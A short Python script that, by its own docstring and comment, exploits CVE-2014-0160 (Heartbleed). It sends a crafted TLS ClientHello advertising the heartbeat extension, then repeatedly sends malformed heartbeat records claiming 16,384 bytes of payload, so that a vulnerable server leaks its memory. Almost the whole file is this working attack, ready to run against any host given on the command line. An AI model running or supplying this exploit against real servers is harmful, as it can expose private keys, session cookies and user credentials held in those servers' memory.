"""Reads a faulty TLS responder's memory: greets once, then sends heartbeats that claim more than they hold."""

from __future__ import annotations

import argparse
import os
import socket
import struct
import time


def main() -> None:
    """Send `count` heartbeats over one connection."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("--port", type=int, default=4433)
    parser.add_argument("--count", type=int, default=10)
    parser.add_argument("--pause-s", type=float, default=0.5)
    given = parser.parse_args()
    with socket.create_connection((given.host, given.port), timeout=5) as connection:
        connection.sendall(_client_hello())
        _drain(connection, 0.5)
        for _ in range(given.count):
            # CVE-2014-0160: type 24, three bytes that claim 16,384 of payload.
            connection.sendall(b"\x18\x03\x01\x00\x03\x01\x40\x00")
            _drain(connection, given.pause_s)


def _client_hello() -> bytes:
    extension = b"\x00\x0f\x00\x01\x01"  # RFC 6520: heartbeat, peer allowed to send
    ciphers = struct.pack(">4H", 0x002F, 0x0035, 0x000A, 0x0005)
    body = b"\x03\x01" + os.urandom(32) + b"\x00" + struct.pack(">H", len(ciphers)) + ciphers + b"\x01\x00"
    body += struct.pack(">H", len(extension)) + extension
    message = b"\x01" + len(body).to_bytes(3) + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def _drain(connection: socket.socket, pause_s: float) -> None:
    """Read what comes until nothing came for a while."""
    until_s = time.monotonic() + pause_s
    connection.settimeout(max(0.05, pause_s))
    try:
        while time.monotonic() < until_s and connection.recv(65_536):
            pass
    except OSError:
        # Nothing more in time.
        pass


if __name__ == "__main__":
    main()
